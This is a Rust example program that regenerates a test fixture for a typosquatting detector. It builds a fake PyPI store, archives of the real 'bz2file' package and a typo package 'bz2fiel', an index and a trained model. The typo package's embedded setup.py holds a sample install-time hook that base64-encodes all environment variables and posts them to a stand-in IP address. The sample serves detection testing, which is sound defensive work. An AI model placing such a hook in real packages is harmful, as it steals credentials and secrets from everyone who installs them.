//! Regenerates `fixtures/bz2fiel`: an offline PyPI store, cached archives
//! for a typo package and its target, a candidate index and a trained model.
//!
//! Usage: `cargo run -p typoguard-cli --example build_fixture [-- <dir>]`
//!
//! The model matches `typoguard train train.csv --trees 60 --max-depth none
//! --min-leaf 1 --seed 42`.

use std::path::PathBuf;

use chrono::{TimeZone, Utc};
use typoguard_core::content::fixture::tar_gz;
use typoguard_core::eval::synthetic::mq_correlated_table;
use typoguard_core::features::N_FEATURES;
use typoguard_core::forest::{train_with_cv, TreeParams};
use typoguard_core::namevec::EmbeddingProvider;
use typoguard_core::pipeline::build_index;
use typoguard_core::registry::{Ecosystem, MetadataStore, PackageRecord};

const POPULAR: [(&str, u64); 28] = [
    ("requests", 480_000_000),
    ("numpy", 310_000_000),
    ("pandas", 210_000_000),
    ("six", 330_000_000),
    ("urllib3", 520_000_000),
    ("certifi", 450_000_000),
    ("idna", 400_000_000),
    ("setuptools", 500_000_000),
    ("flask", 90_000_000),
    ("django", 40_000_000),
    ("click", 250_000_000),
    ("jinja2", 220_000_000),
    ("pyyaml", 330_000_000),
    ("boto3", 700_000_000),
    ("botocore", 690_000_000),
    ("colorama", 200_000_000),
    ("tqdm", 150_000_000),
    ("lz4", 20_000_000),
    ("zstandard", 60_000_000),
    ("brotli", 30_000_000),
    ("bitarray", 5_000_000),
    ("zipfile36", 2_000_000),
    ("bz2file", 9_000_000),
    ("backports.lzma", 400_000),
    ("python-snappy", 3_000_000),
    ("simplejson", 40_000_000),
    ("cryptography", 380_000_000),
    ("packaging", 600_000_000),
];

const BZ2FILE_PY: &[u8] = br#""""Module for reading and writing bzip2-compressed files."""
import io
import os
from threading import RLock
from bz2 import BZ2Compressor, BZ2Decompressor

_MODE_CLOSED = 0
_MODE_READ = 1
_MODE_WRITE = 3
_BUFFER_SIZE = 8192


class BZ2File(io.BufferedIOBase):
    def __init__(self, filename, mode="r", buffering=None, compresslevel=9):
        self._lock = RLock()
        self._fp = None
        self._closefp = False
        self._mode = _MODE_CLOSED
        self._pos = 0
        self._size = -1
        if mode in ("", "r", "rb"):
            mode = "rb"
            self._mode = _MODE_READ
            self._decompressor = BZ2Decompressor()
        else:
            mode = "wb"
            self._mode = _MODE_WRITE
            self._compressor = BZ2Compressor(compresslevel)
        if isinstance(filename, str):
            self._fp = open(filename, mode)
            self._closefp = True
        else:
            self._fp = filename

    def close(self):
        with self._lock:
            if self._mode == _MODE_WRITE:
                self._fp.write(self._compressor.flush())
            if self._closefp:
                self._fp.close()
            self._mode = _MODE_CLOSED


def open(filename, mode="rb", compresslevel=9):
    return BZ2File(filename, mode, compresslevel=compresslevel)
"#;

const SETUP_PY: &[u8] = br#"from distutils.core import setup

setup(
    name="bz2file",
    version="0.98",
    description="Read and write bzip2-compressed files.",
    py_modules=["bz2file"],
)
"#;

const SETUP_PY_TYPO: &[u8] = br#"import base64, os, urllib.request
from distutils.core import setup

def _beacon():
    data = base64.b64encode(repr(dict(os.environ)).encode())
    urllib.request.urlopen("http://203.0.113.7/c", data=data)

_beacon()
setup(
    name="bz2fiel",
    version="0.98",
    description="Read and write bzip2-compressed files.",
    py_modules=["bz2file"],
    install_requires=["requests"],
)
"#;

const PKG_INFO: &[u8] = b"Metadata-Version: 1.1\nName: bz2file\nVersion: 0.98\nLicense: Apache License, Version 2.0\n";
const PKG_INFO_TYPO: &[u8] = b"Metadata-Version: 2.1\nName: bz2fiel\nVersion: 0.98\nRequires-Dist: requests\n";

fn archive_url(name: &str, version: &str) -> String {
    format!("https://files.pythonhosted.org/packages/source/{}/{name}/{name}-{version}.tar.gz", &name[..1])
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let dir = std::env::args().nth(1).map(PathBuf::from).unwrap_or_else(|| {
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/bz2fiel")
    });
    std::fs::create_dir_all(&dir)?;
    let store_path = dir.join("store.jsonl");
    if store_path.exists() {
        std::fs::remove_file(&store_path)?;
    }
    let store = MetadataStore::open(&store_path)?;
    let day = |y, m, d| Utc.with_ymd_and_hms(y, m, d, 0, 0, 0).unwrap();
    for (i, (name, downloads)) in POPULAR.iter().enumerate() {
        let year = 2008 + (i as i32 % 10);
        store.put(PackageRecord {
            description: format!("{name} package"),
            downloads: *downloads,
            stars: downloads / 40_000,
            forks: downloads / 200_000,
            dependents: downloads / 100_000,
            maintainer_count: 2,
            repository_url: Some(format!("https://github.com/{name}/{name}")),
            license: Some(if i % 3 == 0 { "Apache-2.0" } else { "MIT" }.to_string()),
            latest_version: Some(if *name == "bz2file" { "0.98".into() } else { format!("{}.{}.0", 1 + i % 4, i) }),
            version_count: 10 + i as u64 * 3,
            created_at: Some(day(year, 1 + (i as u32 % 12), 1 + i as u32)),
            last_release_at: Some(day(2023, 1 + (i as u32 % 12), 15)),
            last_updated_at: Some(day(2024, 1 + (i as u32 % 5), 10)),
            archive_url: (*name == "bz2file").then(|| archive_url(name, "0.98")),
            ..PackageRecord::empty(name, Ecosystem::Pypi)
        })?;
    }
    store.put(PackageRecord {
        description: "Read and write bzip2-compressed files.".into(),
        downloads: 40,
        maintainer_count: 1,
        repository_url: None,
        license: None,
        latest_version: Some("0.98".into()),
        version_count: 1,
        created_at: Some(day(2024, 5, 20)),
        last_release_at: Some(day(2024, 5, 20)),
        last_updated_at: Some(day(2024, 5, 20)),
        archive_url: Some(archive_url("bz2fiel", "0.98")),
        ..PackageRecord::empty("bz2fiel", Ecosystem::Pypi)
    })?;

    let cache = dir.join("cache/pypi");
    let target = tar_gz(&[
        ("bz2file-0.98/PKG-INFO", PKG_INFO),
        ("bz2file-0.98/setup.py", SETUP_PY),
        ("bz2file-0.98/bz2file.py", BZ2FILE_PY),
        ("bz2file-0.98/README.rst", b"bz2file\n=======\n\nRead and write bzip2-compressed files.\n"),
        ("bz2file-0.98/LICENSE", b"Apache License\nVersion 2.0, January 2004\n"),
        ("bz2file-0.98/test_bz2file.py", b"import bz2file\n\ndef test_roundtrip():\n    assert bz2file.open\n"),
    ]);
    let suspect = tar_gz(&[
        ("bz2fiel-0.98/PKG-INFO", PKG_INFO_TYPO),
        ("bz2fiel-0.98/setup.py", SETUP_PY_TYPO),
        ("bz2fiel-0.98/bz2file.py", BZ2FILE_PY),
        ("bz2fiel-0.98/README.rst", b"bz2file\n=======\n\nRead and write bzip2-compressed files.\n"),
    ]);
    for (name, bytes) in [("bz2file", target), ("bz2fiel", suspect)] {
        let d = cache.join(name).join("0.98");
        std::fs::create_dir_all(&d)?;
        std::fs::write(d.join(format!("{name}-0.98.tar.gz")), bytes)?;
    }

    let index = build_index(&store.records(Ecosystem::Pypi), Ecosystem::Pypi, EmbeddingProvider::hashed(128, 42))?;
    index.save(&dir.join("index.bin"))?;

    let table = mq_correlated_table(2024, 400);
    table.write_csv(std::fs::File::create(dir.join("train.csv"))?)?;
    let grid = [TreeParams { n_trees: 60, ..TreeParams::default() }];
    let out = train_with_cv(&table, &(0..N_FEATURES).collect::<Vec<_>>(), &grid, 42)?;
    out.model.save(&dir.join("model.bin"))?;
    println!(
        "wrote {} (index {} entries, threshold {}, companion threshold {:?})",
        dir.display(),
        index.len(),
        out.model.threshold,
        out.model.companion.as_ref().map(|c| c.threshold)
    );
    Ok(())
}
